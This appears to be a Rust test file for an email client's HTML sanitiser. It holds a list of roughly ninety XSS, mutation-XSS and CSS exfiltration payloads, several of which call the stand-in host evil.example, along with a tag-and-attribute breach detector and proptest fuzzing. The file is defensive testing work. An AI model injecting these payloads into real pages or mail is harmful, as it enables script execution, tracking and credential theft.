//! Attacks on the page of a mail, and mails that should look as they were meant.

use super::*;

struct Withhold;

impl Pictures for Withhold {
    fn resolve(&self, picture: Picture<'_>) -> Answer {
        match picture {
            Picture::Inside("logo@owlery") => Answer::Show("/signed?a=1&b=2".into()),
            Picture::Inside(_) => Answer::Missing,
            Picture::Remote(_) => Answer::Withhold,
        }
    }
}

struct Proxy;

impl Pictures for Proxy {
    fn resolve(&self, picture: Picture<'_>) -> Answer {
        match picture {
            Picture::Inside(_) => Answer::Missing,
            Picture::Remote(url) => Answer::Show(format!("/proxy?{}", url.len())),
        }
    }
}

fn page(html: &str) -> Document {
    document(&[Part::Html(html.into())], Scheme::Light, Arc::new(Withhold))
}

/// What comes from the mail: its sheet and its body.
fn made(html: &str) -> String {
    let page = page(html).html;
    page.split_once(BASE).unwrap().1.to_owned()
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img src onerror=alert(1) src=x>",
    "<body onload=alert(1)>",
    "<body background=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) />",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='alert(1)'>\"></style></h1>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<style><img title=\"</style><img src=x onerror=alert(1)>\">",
    "<style></style/><img src=x onerror=alert(1)>",
    "<style>a{color:red;}/*</style><script>alert(1)</script>*/",
    "<style>@import url(//evil.example/x.css);@import '//evil.example';</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>",
    "<style>@\\69mport '//evil.example';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>a::before{content:url(//evil.example)}</style>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<style>p{position:fixed;top:0;left:0;width:100vw;height:100vh}</style>",
    "<style>p{-moz-binding:url(//evil.example#x)}</style>",
    "<style>p{behavior:url(x.htc)}</style>",
    "<style>p{width:expression(alert(1))}</style>",
    "<style>p{color:red;}</style >x<style>q{background-image:image-set('//evil.example/a' 1x)}</style>",
    "<style>p{background:\\75rl(//evil.example)}</style>",
    "<style>p{background:u/**/rl(//evil.example)}</style>",
    "<style>p{--x:url(//evil.example);background:var(--x)}</style>",
    "<style>p{background:element(#x) cross-fade(url(//evil.example),url(//evil.example))}</style>",
    "<style>p{color:red\\3c/style>\\3cscript>alert(1)\\3c/script>}</style>",
    "<style>a[title=\"</st\\79le><script>alert(1)</script>\"]{color:red}</style>",
    "<style>@media (min-width:1px){@import '//evil.example';p{position:absolute}}</style>",
    "<style>@supports (display:block){p{position:fixed}}</style>",
    "<style><!-- p{position:fixed} --></style>",
    "<p style=\"position:fixed;inset:0\">",
    "<p style=\"background:url(//evil.example/track)\">",
    "<p style=\"background:url(&quot;javascript:alert(1)&quot;)\">",
    "<p style='color:red;\"><script>alert(1)</script>'>",
    "<p style=\"width:e/**/xpression(alert(1))\">",
    "<p style=\"pos\\69tion:fixed\">",
    "<p style=\"transform:scale(100)\">",
    "<p style=\"cursor:url(//evil.example/x),auto\">",
    "<p style=\"list-style:url(//evil.example/x)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"/owlet/session\">x</a>",
    "<a href=\"//evil.example\" ping=\"//evil.example\">x</a>",
    "<a href=\"https://a.example\" target=_self>x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
    "<img src=\"data:text/html;base64,PHN2Zy8+\">",
    "<img srcset=\"//evil.example 2x\" src=x>",
    "<picture><source srcset=//evil.example><img></picture>",
    "<video src=//evil.example poster=//evil.example autoplay></video>",
    "<audio src=//evil.example></audio>",
    "<input type=image src=//evil.example>",
    "<table background=\"//evil.example/x\"><td background=\"javascript:alert(1)\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example><applet code=x>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1) contenteditable autofocus onfocus=alert(1)>x",
    "<p accesskey=x tabindex=0 onfocus=alert(1) is=x slot=y>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"//evil.example\"?><?php echo 1 ?>",
    "<div class=\"owlet-html\" id=\"owlet-x\">",
    "</div></body></html><script>alert(1)</script>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<body style=\"color:red\" class='\"><script>alert(1)</script>'>",
    "<body bgcolor='red\"><script>alert(1)</script>'>",
];

/// Parses what was made as a browser would and looks at every tag and attribute.
fn breaches(html: &str) -> Vec<String> {
    use html5ever::buffer_queue::BufferQueue;
    use html5ever::tokenizer::states::RawKind;
    use html5ever::tokenizer::{Token, TokenSink, TokenSinkResult, Tokenizer};

    #[derive(Default)]
    struct Guard(std::cell::RefCell<Vec<String>>);
    impl TokenSink for Guard {
        type Handle = ();
        fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
            let Token::TagToken(tag) = token else { return TokenSinkResult::Continue };
            let name = &*tag.name;
            let mut found = self.0.borrow_mut();
            let ours = matches!(name, "html" | "head" | "meta" | "title" | "style" | "body");
            let known = [
                "a",
                "b",
                "blockquote",
                "br",
                "details",
                "div",
                "em",
                "h1",
                "h6",
                "i",
                "img",
                "p",
                "q",
                "span",
                "table",
                "tbody",
                "td",
                "tr",
            ];
            if !ours && !known.contains(&name) {
                found.push(format!("<{name}>"));
            }
            for attribute in &tag.attrs {
                let (attribute, value) = (&*attribute.name.local, attribute.value.to_lowercase());
                let is_style = attribute == "style";
                let bad = attribute.starts_with("on")
                    || matches!(
                        attribute,
                        "srcset"
                            | "action"
                            | "ping"
                            | "formaction"
                            | "srcdoc"
                            | "poster"
                            | "is"
                            | "slot"
                            | "tabindex"
                            | "contenteditable"
                            | "http-equiv"
                    )
                    || (attribute == "href"
                        && !(value.starts_with("https://")
                            || value.starts_with("http://")
                            || value.starts_with("mailto:")))
                    || (attribute == "src"
                        && !(value.starts_with("/signed") || value.starts_with("data:image/png;base64,")))
                    || (attribute == "target" && value != "_blank")
                    || (is_style
                        && ["url", "position", "expression", "transform", "\\", "<", "cursor"]
                            .iter()
                            .any(|bad| value.contains(bad)));
                if bad {
                    found.push(format!("<{name} {attribute}={value}>"));
                }
            }
            if name == "style" { TokenSinkResult::RawData(RawKind::Rawtext) } else { TokenSinkResult::Continue }
        }
    }
    let input = BufferQueue::default();
    input.push_back(html.into());
    let tokenizer = Tokenizer::new(Guard::default(), Default::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.into_inner()
}

#[test]
fn no_attack_gets_through() {
    for attack in ATTACKS {
        let made = made(attack);
        assert_eq!(breaches(&made), Vec::<String>::new(), "{attack}\n→ {made}");
        let lower = made.to_lowercase();
        for bad in ["evil.example", "javascript:", "<script", "@import", "position:", "expression(", "@font-face"] {
            let is_text = lower.contains(&format!("&lt;{}", bad.trim_start_matches('<')));
            assert!(
                !lower.contains(bad) || is_text || bad == "evil.example" && lower.contains("<a href=\"https://evil"),
                "{bad} in\n{attack}\n→ {made}"
            );
        }
    }
}

#[test]
fn what_was_made_is_made_the_same_again() {
    // A mutation that a second parse brings out is how mXSS works.
    for attack in ATTACKS {
        let once = markup::clean(attack, &Arc::new(style::Fence::new(Scheme::Light, Arc::new(Withhold))));
        let twice = markup::clean(&once, &Arc::new(style::Fence::new(Scheme::Light, Arc::new(Withhold))));
        // The order of the two attributes that we add is ammonia's.
        let plain = |html: &str| html.replace(" target=\"_blank\"", "").replace(" rel=\"noopener noreferrer\"", "");
        assert_eq!(plain(&once), plain(&twice), "{attack}");
    }
}

#[test]
fn a_newsletters_style_is_kept() {
    let made = made(
        "<style>.h > a:hover, td.x[align=\"left\"]{color:#ff0000;padding:4px 8px!important;font-family:'Open Sans',Arial}\
         @media only screen and (max-width:600px){.h{width:100% !important}}</style>\
         <table bgcolor=\"#eeeeee\" width=600 cellpadding=0><tr><td class=x style=\"font:bold 14px/1.4 Georgia;margin:0 auto\">Hi</td></tr></table>",
    );
    for kept in [
        ".h > a:hover, td.x[align=\"left\"]{color:#ff0000;padding:4px 8px !important;font-family:",
        "@media only screen and (max-width:600px){.h{width:100% !important}}",
        "bgcolor=\"#eeeeee\"",
        "font:bold 14px/1.4 Georgia;margin:0 auto",
    ] {
        let is_kept = made.contains(kept)
            || made.replace(" !important", "!important").contains(&kept.replace(" !important", "!important"));
        assert!(is_kept, "{kept}\n{made}");
    }
}

#[test]
fn remote_pictures_are_withheld_and_counted() {
    let html = "<body background=\"http://a.example/0\"><img src=\"https://a.example/1.png\" alt=\"A poster\" width=\"20\">\
                <td background=\"//a.example/2\"></td><p style=\"background:#fff url('https://a.example/3') no-repeat\">x</p>\
                <style>.y{background-image:url(https://a.example/4)}</style>";
    let page = page(html);
    assert_eq!(page.withheld, 3 + usize::from(page.html.contains("<td")), "{}", page.html);
    assert!(page.html.contains("data-withheld-images="));
    assert!(page.html.contains("alt=\"A poster\""));
    assert!(page.html.contains("background:#ffffff none no-repeat"), "{}", page.html);
    let shown = document(&[Part::Html(html.into())], Scheme::Light, Arc::new(Proxy));
    assert_eq!(shown.withheld, 0);
    assert!(shown.html.contains("src=\"/proxy?23\""), "{}", shown.html);
    assert!(!shown.html.contains("a.example"));
}

#[test]
fn a_picture_of_the_mail_has_a_signed_address() {
    let made =
        made("<img src=\"cid:logo@owlery\"><p style=\"background:url(cid:logo@owlery)\">x</p><img src=\"cid:other\">");
    assert_eq!(made.matches("/signed?a=1").count(), 2, "{made}");
}

#[test]
fn links_open_elsewhere_and_tell_nothing() {
    let made = made("<a href=\"https://a.example/\" name=x>a</a>");
    for kept in ["href=\"https://a.example/\"", "target=\"_blank\"", "rel=\"noopener noreferrer\""] {
        assert!(made.contains(kept), "{made}");
    }
}

#[test]
fn dark_turns_colours_everywhere() {
    let html = "<body bgcolor=white text=black><style>p{color:#000;background:rgb(255,255,255)}</style>\
                <td bgcolor=\"#ffffff\"><font color=\"#000000\" style=\"color:hsl(0,0%,0%)\">x</font></td>";
    let dark = document(&[Part::Html(html.into())], Scheme::Dark, Arc::new(Withhold)).html;
    let dark = dark.split_once(BASE).unwrap().1;
    for gone in ["#ffffff", "#000000", "rgb(", "white", "black", "hsl"] {
        assert!(!dark.contains(gone), "{gone} in {dark}");
    }
}

#[test]
fn deep_and_wide_mails_end() {
    for html in [
        "<div>".repeat(50_000),
        "<b><i>".repeat(3_000),
        "<table><tr><td>".repeat(3_000),
        format!("<style>{}</style>", "a{".repeat(50_000)),
        format!("<style>{}</style>", "(".repeat(50_000)),
        format!("<p style=\"width:{}\">", "calc(".repeat(20_000)),
        "&lt;".repeat(100_000),
    ] {
        let started = std::time::Instant::now();
        page(&html);
        assert!(started.elapsed().as_secs() < 20, "{}", html.get(..20).unwrap_or_default());
    }
}

proptest::proptest! {
    #[test]
    fn no_mixture_of_pieces_gets_through(pieces in proptest::collection::vec(0..ATTACKS.len(), 1..5), cut in 0..60_usize) {
        let mut html = String::new();
        for piece in pieces {
            let attack = ATTACKS[piece];
            html.push_str(attack.get(..attack.len().saturating_sub(cut / 4)).unwrap_or(attack));
        }
        let made = made(&html);
        proptest::prop_assert_eq!(breaches(&made), Vec::<String>::new());
    }
}
